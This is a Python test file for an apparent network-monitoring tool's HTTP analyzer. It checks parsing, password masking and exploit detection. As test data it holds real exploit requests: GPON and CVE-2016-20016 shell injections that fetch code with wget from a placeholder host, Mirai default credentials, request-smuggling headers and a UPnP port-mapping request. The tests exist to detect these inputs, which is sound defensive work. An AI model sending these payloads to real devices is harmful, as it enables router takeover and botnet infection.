import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from botwarden.core.records.files import FileRecord
from botwarden.core.records.http import HttpRecord
from botwarden.core.records.ssdp import UpnpRecord
from botwarden.core.records.weird import WeirdRecord
from botwarden.protocols.analyzers.http import MAX_ODDITIES, MAX_TEXT, MAX_URI, HttpAnalyzer
from protocols.conversation import Talk, Turn, only, talk

HTML = b"<html><body>It works</body></html>"
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 34\r\n\r\n" + HTML
NOT_UTF8 = b"\xc3\x83\xc3\x82\xc3\x83"


def ask(target: bytes = b"/", *headers: bytes, method: bytes = b"GET", body: bytes = b"") -> bytes:
    lines = [method + b" " + target + b" HTTP/1.1", b"Host: example.org", *headers]
    if body:
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def rows(turns: list[Turn], split: int = 0) -> list[HttpRecord]:
    return only(talk(HttpAnalyzer, turns, split=split), HttpRecord)


def fields(record: HttpRecord, *names: str) -> tuple[object, ...]:
    return tuple(getattr(record, name) for name in names)


def test_a_request_with_its_answer() -> None:
    answer = b"HTTP/1.0 404 Not Found\r\nServer: thttpd/2.25\r\nContent-Type: text/html\r\n\r\n" + HTML
    request = ask(
        b"/a%20b?c=d", b"User-Agent: Wget/1.12", b"Referer: http://x/", b"Origin: null", b"Via: p1", b"VIA: p2"
    )
    records = talk(HttpAnalyzer, [(True, request), (False, answer)])
    [record] = only(records, HttpRecord)
    [file] = only(records, FileRecord)
    assert record == HttpRecord(
        ts=1000.0,
        uid="C1",
        orig_h="192.168.0.10",
        orig_p=40000,
        resp_h="198.51.100.7",
        resp_p=80,
        trans_depth=1,
        method="GET",
        host="example.org",
        uri="/a b?c=d",
        referrer="http://x/",
        version="1.0",
        user_agent="Wget/1.12",
        origin="null",
        response_body_len=len(HTML),
        status_code=404,
        status_msg="Not Found",
        proxied=("VIA -> p1", "VIA -> p2"),
        resp_fuids=(file.fuid,),
        resp_mime_types=("text/html",),
        server="thttpd/2.25",
    )
    assert (file.source, file.seen_bytes, file.depth, file.local_orig) == ("HTTP", len(HTML), 1, False)


def test_the_connection_is_known_as_http() -> None:
    talking = Talk(HttpAnalyzer)
    talking.say(True, ask())
    assert talking.flow.services == ["http"]


@pytest.mark.parametrize("split", [0, 1, 3])
def test_pipelined_requests(split: int) -> None:
    found = rows([(True, ask(b"/1") + ask(b"/2") + ask(b"/3")), (False, OK * 3)], split)
    assert [fields(record, "trans_depth", "uri", "status_code") for record in found] == [
        (1, "/1", 200),
        (2, "/2", 200),
        (3, "/3", 200),
    ]


def test_answers_that_nobody_asked_for() -> None:
    """Zeek's trace http-desynched: seven rows, the second and third without a request."""
    turns: list[Turn] = [(True, ask()), (False, OK * 3), *[(True, ask()), (False, OK)] * 4]
    found = rows(turns)
    assert [record.trans_depth for record in found] == [1, 2, 3, 4, 5, 6, 7]
    assert [record.method for record in found] == ["GET", None, None, "GET", "GET", "GET", "GET"]
    assert {record.response_body_len for record in found} == {34}


def test_continue_is_kept_as_the_interim_answer() -> None:
    """Zeek's trace 100-continue."""
    request = ask(method=b"POST", body=b"x" * 2001)
    [record] = rows([(True, request), (False, b"HTTP/1.1 100 Continue\r\n\r\n" + OK)])
    assert fields(record, "info_code", "info_msg", "status_code", "request_body_len") == (100, "Continue", 200, 2001)
    assert record.orig_mime_types == ("text/plain",)


def test_switching_protocols_ends_http() -> None:
    """Zeek's trace 101-switching-protocols."""
    talking = Talk(HttpAnalyzer)
    talking.say(True, ask(b"/echo", b"Connection: Upgrade", b"Upgrade: websocket"))
    talking.say(False, b"HTTP/1.1 101 Web Socket\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n\x81\x05hello")
    assert talking.flow.hand_over == ""
    [record] = only(talking.finish(), HttpRecord)
    assert fields(record, "status_code", "info_code", "info_msg") == (101, 101, "Web Socket")


def test_connect_hands_over_to_what_is_in_the_tunnel() -> None:
    """Zeek's trace http-connect."""
    talking = Talk(HttpAnalyzer)
    talking.say(True, b"CONNECT mailin03.sul.t-online.de:25 / HTTP/1.0\r\nMozilla 4.0 (compatible)\r\n\r\n")
    talking.say(False, b"HTTP/1.0 200 Connection established\r\n\r\n")
    assert talking.flow.hand_over == ""
    [record] = only(talking.finish(), HttpRecord)
    assert fields(record, "method", "uri", "status_msg", "response_body_len") == (
        "CONNECT",
        "mailin03.sul.t-online.de:25 /",
        "Connection established",
        0,
    )


def test_a_refused_connect_is_an_ordinary_answer() -> None:
    talking = Talk(HttpAnalyzer)
    talking.say(True, b"CONNECT x:25 HTTP/1.1\r\n\r\n")
    talking.say(False, b"HTTP/1.1 403 No\r\nContent-Length: 2\r\n\r\nno")
    assert talking.flow.hand_over is None
    assert only(talking.records, HttpRecord)[0].response_body_len == 2


@pytest.mark.parametrize(
    ("request_line", "expected"),
    [
        (b"OPTIONS * HTTP/1.1", ("OPTIONS", "*", 200, "1.1")),
        (b"OPTIONS HTTP/1.1", ("OPTIONS", "", 200, "1.1")),
        (b"GET / HTTP/1.", ("GET", "/", 200, "1.1")),
        (b"CCM_POST / HTTP/1.1", ("CCM_POST", "/", 200, "1.1")),
        (b"CCM_POST /HTTP/1.1", ("CCM_POST", "/HTTP/1.1", 0, "0.9")),
        (b"TRACE /HTTP/1.1", ("TRACE", "/HTTP/1.1", 0, "0.9")),
        (b"OPTIONSHTTP/1.1", (None, None, 200, "1.1")),
        (b"GET/ HTTP/1.1", (None, None, 200, "1.1")),
        (NOT_UTF8 + b" / HTTP/1.", (None, None, 200, "1.1")),
    ],
)
def test_odd_request_lines(request_line: bytes, expected: tuple[object, ...]) -> None:
    """From Zeek's trace http-methods."""
    found = rows([(True, request_line + b"\nHost: www.google.com\n\n"), (False, OK)])
    assert [fields(record, "method", "uri", "status_code", "version") for record in found] == [expected]


def test_http_0_9_is_answered_raw() -> None:
    """Zeek's trace no-version, with its second row: what is left of a request that never ended."""
    talking = Talk(HttpAnalyzer)
    talking.say(True, b"GET /cgi-bin/formmail.pl?x\r\n")
    talking.say(False, HTML)
    talking.analyzer.eof(1001.0, False)
    first, second = only(talking.finish(), HttpRecord)
    names = "trans_depth", "method", "version", "status_code", "status_msg", "response_body_len", "resp_mime_types"
    assert fields(first, *names) == (1, "GET", "0.9", 0, "<empty>", len(HTML), ("text/html",))
    assert fields(second, *names) == (2, None, None, None, None, 0, None)


def test_an_answer_without_a_status_line_is_none() -> None:
    """Zeek's trace curl-http-09."""
    [record] = rows([(True, ask(b"/zeek.html")), (False, HTML + b"\n")])
    assert fields(record, "uri", "version", "status_code", "response_body_len") == ("/zeek.html", None, None, 0)


@pytest.mark.parametrize(
    "header",
    [
        b"Content-Length: 18446744073709551615",
        b"Transfer-Encoding:\r\n chunked\r\n\r\n0",
        b"Transfer-Encoding: chunked\r\nContent-Length: 50\r\n\r\n0",
    ],
)
def test_smuggled_requests_are_seen(header: bytes) -> None:
    """Zeek's traces 261.*."""
    found = rows([(True, b"POST / HTTP/1.1\r\n" + header + b"\r\n\r\n" + ask(b"/smuggled"))])
    assert [fields(record, "method", "uri") for record in found] == [("POST", "/"), ("GET", "/smuggled")]


@pytest.mark.parametrize(("method", "status"), [(b"HEAD", b"200 OK"), (b"GET", b"304 Same"), (b"GET", b"204 None")])
def test_answers_without_a_body(method: bytes, status: bytes) -> None:
    answer = b"HTTP/1.1 " + status + b"\r\nContent-Length: 34\r\n\r\n"
    found = rows([(True, ask(method=method) + ask(b"/2")), (False, answer + OK)])
    assert [record.response_body_len for record in found] == [0, 34]
    assert found[1].uri == "/2"


def test_the_files_of_a_form() -> None:
    """Zeek's trace ctu-agent-tesla: four files, one with a name, one with a type."""
    parts = [
        b'name="hwid"\r\n\r\n{1f777390-0b42-11e3-80ad-806e6f6e6963}',
        b'name="pid"\r\n\r\n2',
        b'name="lid"\r\n\r\ngaA7aF',
        b'name="file"; filename="file"\r\nContent-Type: attachment/x-object\r\n\r\nPK\x05\x06' + bytes(18),
    ]
    form = b"".join(b"--Sq\r\nContent-Disposition: form-data; " + part + b"\r\n" for part in parts) + b"--Sq\r\n\r\n"
    request = ask(b"/c2sock", b"Content-Type: multipart/form-data; boundary=Sq", method=b"POST", body=form)
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n\xef\xbb\xbfok"
    for split in (0, 1):
        [record] = rows([(True, request), (False, answer)], split)
        assert len(record.orig_fuids or ()) == 4
        assert fields(record, "orig_filenames", "orig_mime_types") == (("file",), ("text/plain",))
        assert fields(record, "request_body_len", "resp_mime_types") == (len(form), None)


def test_basic_authentication_gives_the_name_and_the_lists_but_not_the_password() -> None:
    login = b"Authorization: Basic " + base64.b64encode(b"root:xc3511")
    [record] = rows([(True, ask(b"/", login)), (False, OK)])
    assert record.username == "root"
    assert "mirai" in (record.dictionary or ())
    assert record.password is None
    assert "xc3511" not in repr(record)


def test_passwords_in_uris_and_forms_are_only_looked_up() -> None:
    get = ask(b"/cgi?user=root&pwd=xc3511&password=xc%263511", b"Referer: http://x/?password=xc3511")
    post = ask(b"/login", method=b"POST", body=b"username=root&password=xc3511")
    found = rows([(True, get + post), (False, OK * 2)])
    assert found[0].uri == "/cgi?user=root&pwd=***&password=***"
    assert found[0].referrer == "http://x/?password=***"
    for record in found:
        assert "mirai" in (record.dictionary or ())
        assert "3511" not in repr(record)


def test_exploits_have_signs() -> None:
    body = b"XWebPageName=diag&diag_action=ping&dest_host=`busybox wget http://192.0.2.1/x`"
    request = ask(b"/GponForm/diag_Form?images/", method=b"POST", body=body)
    for split in (0, 1):
        [record] = rows([(True, request)], split)
        assert set(record.signs or ()) == {"CVE-2018-10561", "CVE-2018-10562", "shell-injection"}
    [answered] = rows([(True, request[:-5]), (False, OK)])[:1]  # answered before it was complete
    assert "CVE-2018-10562" in (answered.signs or ())
    [last] = rows([(True, b"GET /shell?cd+/tmp;wget+http://192.0.2.1/x")])  # closed without an end of line
    assert "CVE-2016-20016" in (last.signs or ())


def test_a_downloaded_bot_is_recognised() -> None:
    bot = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x28\x00" + bytes(3000)
    records = talk(HttpAnalyzer, [(True, ask(b"/bins/x.arm7")), (False, b"HTTP/1.0 200 OK\r\n\r\n" + bot)])
    [file] = only(records, FileRecord)
    assert (file.mime_type, file.executable) == ("application/x-executable", "ELF 32-bit LSB ARM")
    assert file.sha256 is not None


WAN = b"urn:schemas-upnp-org:service:WANIPConnection:1"
MAPPING = (
    b'<u:AddPortMapping xmlns:u="' + WAN + b'"><NewExternalPort>2323</NewExternalPort><NewProtocol>TCP</NewProtocol>'
    b"<NewInternalPort>23</NewInternalPort><NewInternalClient>192.168.0.10</NewInternalClient>"
    b"<NewPortMappingDescription>cam</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration>"
)


def test_port_mappings_are_told() -> None:
    action = b'SOAPAction: "' + WAN + b'#AddPortMapping"'
    padding = b"<!--" + b"-" * 3000 + b"-->"
    for body in (MAPPING, padding + MAPPING):
        request = ask(b"/upnp/control/WANIPConn1", action, method=b"POST", body=body)
        records = talk(HttpAnalyzer, [(True, request), (False, OK)])
        [upnp] = only(records, UpnpRecord)
        assert (upnp.kind, upnp.action, upnp.status_code) == ("action", "AddPortMapping", 200)
        assert (upnp.external_port, upnp.internal_client, upnp.internal_port) == (2323, "192.168.0.10", 23)
        assert (upnp.protocol, upnp.description, upnp.lease) == ("TCP", "cam", 0)
        assert only(records, HttpRecord)[0].signs is None


def test_device_descriptions_are_told() -> None:
    body = (
        b'<?xml version="1.0"?>\n<root xmlns="urn:schemas-upnp-org:device-1-0"><device>'
        b"<deviceType>urn:Belkin:device:controllee:1</deviceType><friendlyName>WeMo Switch</friendlyName>"
        b"<manufacturer>Belkin</manufacturer><modelName>Socket</modelName><modelNumber>1.0</modelNumber>"
    ) + b" " * 2000  # fmt: skip
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    for split in (0, 1):
        records = talk(HttpAnalyzer, [(True, ask(b"/setup.xml")), (False, answer)], split=split)
        [upnp] = only(records, UpnpRecord)
        assert (upnp.kind, upnp.friendly_name, upnp.manufacturer) == ("description", "WeMo Switch", "Belkin")
        assert (upnp.model_name, upnp.model_number, upnp.device_type) == (
            "Socket",
            "1.0",
            "urn:Belkin:device:controllee:1",
        )


def test_gaps() -> None:
    talking = Talk(HttpAnalyzer)
    talking.say(True, ask())
    talking.say(False, OK[:50])
    talking.analyzer.gap(1001.0, False, 10)
    talking.say(False, OK[60:])
    talking.say(True, ask(b"/2"))
    talking.say(False, OK)
    talking.analyzer.gap(1002.0, True, 100)  # in nothing that can be told
    talking.say(False, OK)
    talking.say(True, ask(b"/3"))
    records = talking.finish()
    assert [record.missing_bytes for record in only(records, FileRecord)] == [10, 0, 0]
    assert [fields(record, "uri", "response_body_len") for record in only(records, HttpRecord)] == [
        ("/", 34),
        ("/2", 34),
        (None, 34),
    ]


def test_it_is_done_when_neither_side_speaks_http() -> None:
    talking = Talk(HttpAnalyzer)
    talking.say(True, b"SSH-2.0-x\r\n")
    assert not talking.flow.done
    talking.say(False, b"SSH-2.0-y\r\n")
    assert talking.flow.done
    assert talking.flow.violations == 2
    records = talking.finish()
    assert {record.name for record in only(records, WeirdRecord)} == {"bad_HTTP_request", "bad_HTTP_reply"}
    assert only(records, HttpRecord) == []


def test_records_and_oddities_are_bounded() -> None:
    long = b"x" * 8000
    request = ask(b"/" + long, b"User-Agent: " + long, b"Referer: " + long, *(b"Via: %d" % i for i in range(50)))
    [record] = rows([(True, request)])
    assert len(record.uri or "") <= MAX_URI
    assert len(record.user_agent or "") <= MAX_TEXT
    assert len(record.proxied or ()) <= 8
    many = b"".join(b"M%c / HTTP/1.1\r\n\r\n" % (65 + i) for i in range(26))
    assert len(only(talk(HttpAnalyzer, [(True, many)]), WeirdRecord)) <= MAX_ODDITIES


def matches(is_orig: bool, *heads: bytes) -> set[bool | None]:
    assert {HttpAnalyzer.matches(head, is_orig, "udp") for head in heads} == {False}
    return {HttpAnalyzer.matches(head, is_orig, "tcp") for head in heads}


def test_what_a_request_begins_like() -> None:
    known = b"GET / HTTP/1.1\r\n", b"QUERY /users HTTP/1.1\r\n", b"OPTIONS HTTP/1.1\n", b"XYZZY /a b HTTP/1.0\n"
    assert matches(True, *known, b"POST /" + b"a" * 1000) == {True}
    assert matches(True, b"", b"GE", b"GET / HTT", b"POST /ctrlt") == {None}
    others = b"OPTIONS rtsp://x RTSP/1.0\r\n", b"INVITE sip:x SIP/2.0\r\n", b"\x16\x03\x01", b"SSH-2.0-x\r\n"
    assert matches(True, *others, b"GET /old\r\n", b"PRI * HTTP/2.0\r\n", b"get lost") == {False}


def test_what_an_answer_begins_like() -> None:
    assert matches(False, b"HTTP/1.1 200", b"HTTP/1.0  404 x") == {True}
    assert matches(False, b"", b"HT", b"HTTP/1.1 2") == {None}
    assert matches(False, b"HTTX", b"HTTP/1.1 OK really", b"RTSP/1.0 200", b"220 ftp") == {False}


CONVERSATIONS: list[list[Turn]] = [
    [(True, ask(b"/1") + ask(b"/2", method=b"HEAD")), (False, OK + OK[:-34]), (True, ask(b"/3")), (False, OK)],
    [(True, ask(b"/x", b"SOAPAction: x", method=b"POST", body=MAPPING)), (False, b"HTTP/1.1 100 C\r\n\r\n" + OK)],
    [(True, b"GET /0.9\r\n"), (False, HTML)],
    [(True, ask(b"/m", b"Content-Type: multipart/x; boundary=B", body=b"--B\r\n\r\nabc\r\n--B--")), (False, OK)],
    [(True, ask()), (False, b"HTTP/1.1 200\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nHello\r\n0\r\n\r\n" + OK)],
]


@given(st.sampled_from(CONVERSATIONS), st.integers(1, 40), st.data())
def test_mutated_conversations_are_the_same_however_they_are_split(
    turns: list[Turn], split: int, data: st.DataObject
) -> None:
    changed: list[Turn] = []
    for is_orig, said in turns:
        mutable = bytearray(said)
        for _ in range(data.draw(st.integers(0, 2))):
            at = data.draw(st.integers(0, len(mutable)))
            mutable[at : at + data.draw(st.integers(0, 4))] = data.draw(st.binary(max_size=4))
        changed.append((is_orig, bytes(mutable)))
    assert talk(HttpAnalyzer, changed) == talk(HttpAnalyzer, changed, split=split)


@given(
    st.lists(st.tuples(st.booleans(), st.one_of(st.binary(max_size=60), st.integers(1, 99))), max_size=9), st.booleans()
)
def test_any_bytes_and_gaps_are_survived(pieces: list[tuple[bool, bytes | int]], eof: bool) -> None:
    talking = Talk(HttpAnalyzer)
    for is_orig, piece in pieces:
        if isinstance(piece, bytes):
            talking.say(is_orig, piece)
        elif not talking.flow.done and talking.flow.hand_over is None:
            talking.analyzer.gap(talking.now, is_orig, piece)
    talking.finish(eof=eof)
